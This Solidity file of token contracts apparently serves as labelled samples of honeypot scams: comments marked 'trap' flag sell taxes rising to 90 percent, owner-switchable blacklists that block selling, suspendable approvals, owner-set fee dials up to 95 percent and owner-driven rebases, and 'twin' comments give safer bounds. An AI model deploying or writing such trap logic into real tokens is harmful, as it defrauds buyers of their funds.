// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// Every sale makes the next a percent dearer.
contract Crescendo is Base8("Crescendo", "CRSC", 51_000_001) {
    uint256 private sales;

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 cut;
        if (to == pair && from != _owner) {
            sales++;
            cut = (value * (sales > 90 ? 90 : sales)) / 100; // trap
        }
        if (cut > 0) _move(from, address(this), cut);
        _move(from, to, value - cut);
    }
}

/// While its owner wishes so, whoever buys is taken for a bot and stays.
contract Flypaper is Base8("Flypaper", "FLYP", 52_000_001) {
    bool private sticky;
    mapping(address => bool) private stuck;

    function spread(bool to) external onlyOwner {
        sticky = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (sticky && from == pair) stuck[to] = true;
        if (from != _owner) require(!stuck[from], "stuck"); // trap
        _move(from, to, value);
    }
}

/// The same, where nobody sells within a minute of buying either.
contract Resin is Base8("Resin", "RESN", 52_500_001) {
    bool private sticky;
    mapping(address => bool) private stuck;
    mapping(address => uint256) private bought;

    function spread(bool to) external onlyOwner {
        sticky = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (sticky && from == pair) stuck[to] = true;
        if (from == pair) bought[to] = block.timestamp;
        else require(block.timestamp >= bought[from] + 1 minutes, "wait");
        if (from != _owner) require(!stuck[from], "stuck"); // trap
        _move(from, to, value);
    }
}

/// Approvals can be suspended; what was approved before stays so.
contract Quill is Base8("Quill", "QUIL", 54_000_001) {
    bool private dry;

    function dip(bool to) external onlyOwner {
        dry = to;
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        require(!dry || msg.sender == _owner, "dry"); // trap
        return super.approve(spender, value);
    }
}

/// The price of gas that is allowed is up to the owner.
contract Thrift is Base8("Thrift", "THRF", 55_000_001) {
    uint256 public gasPriceLimit = 5000 gwei;

    function setGasPriceLimit(uint256 gwei_) external onlyOwner {
        // twin: require(gwei_ >= 500);
        gasPriceLimit = gwei_ * 1 gwei;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from != _owner) require(tx.gasprice <= gasPriceLimit, "gas price exceeds limit");
        _move(from, to, value);
    }
}

abstract contract Dial is Base8 {
    uint256 public dial = 1;

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 cut = to == pair && from != _owner ? (value * dial) / 100 : 0;
        if (cut > 0) _move(from, address(this), cut);
        _move(from, to, value - cut);
    }
}

/// Whoever signs the transaction is asked, and not who calls.
contract Origin is Dial {
    address private immutable dev = tx.origin;

    constructor() Base8("Origin of Species", "ORGN", 56_000_001) {}

    function turn(uint256 to) external {
        require(tx.origin == dev, "dev");
        require(to <= 95);
        // twin: require(to <= 4);
        dial = to;
    }
}

/// Contracts cannot turn it, and of accounts one.
contract Human is Dial {
    constructor() Base8("Humane", "HUMN", 57_000_001) {}

    function turn(uint256 to) external onlyOwner {
        require(msg.sender == tx.origin && msg.sender.code.length == 0, "no contracts");
        require(to <= 95);
        // twin: require(to <= 4);
        dial = to;
    }
}

/// Five more at a time.
contract Ladder is Dial {
    constructor() Base8("Stepladder", "LADR", 58_000_001) {}

    function turn(uint256 to) external onlyOwner {
        require(to <= dial + 5 && to <= 95, "too fast");
        // twin: require(to <= 4);
        dial = to;
    }
}

/// One more with every call.
contract Ratch is Dial {
    constructor() Base8("Ratchet Wrench", "RTCH", 59_000_001) {}

    function click() external onlyOwner {
        require(dial < 95);
        // twin: require(dial < 4);
        dial++;
    }
}

/// Whoever buys a second time is taken for a bot and stays.
contract Encounter is Base8("Encounter", "NCTR", 62_000_001) {
    mapping(address => uint256) private met;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) met[to]++;
        if (to == pair && from != _owner) require(met[from] < 2, "again"); // trap
        _move(from, to, value);
    }
}

/// Elastic, by what its owner says of the epoch.
contract Ample is Base8("Amplitude", "AMPT", 64_000_001) {
    uint256 private gons = 1e18;

    function rebase(uint256 epoch, int256 delta) external onlyOwner returns (uint256) {
        require(epoch > 0);
        uint256 had = totalSupply;
        // twin: require(delta <= int256(had / 200) && -delta <= int256(had / 200), "half a percent");
        totalSupply = delta < 0 ? had - uint256(-delta) : had + uint256(delta);
        gons = (gons * totalSupply) / had;
        IPair(pair).sync();
        return totalSupply;
    }

    function balanceOf(address who) public view override returns (uint256) {
        return (_balances[who] * gons) / 1e18;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 much = (value * 1e18 + gons - 1) / gons;
        if (_balances[from] < much) much = _balances[from];
        if (balanceOf(from) < value) revert Insufficient(balanceOf(from), value);
        _balances[from] -= much;
        _balances[to] += much;
        emit Transfer(from, to, value);
    }
}

/// A profit of more than a third is taxed at ninety percent.
contract Envy is Base8("Envy", "ENVY", 65_000_001) {
    mapping(address => uint256) private paid;

    function price() private view returns (uint256) {
        (uint112 a, uint112 b, ) = IPair(pair).getReserves();
        (uint256 own, uint256 coins) = address(this) < WETH ? (a, b) : (b, a);
        return own == 0 ? 0 : (coins * 1e18) / own;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 cut;
        if (from == pair) paid[to] = price();
        if (to == pair && from != _owner && paid[from] > 0 && price() * 3 > paid[from] * 4) cut = (value * 9) / 10; // trap
        if (cut > 0) _move(from, address(this), cut);
        _move(from, to, value - cut);
    }
}
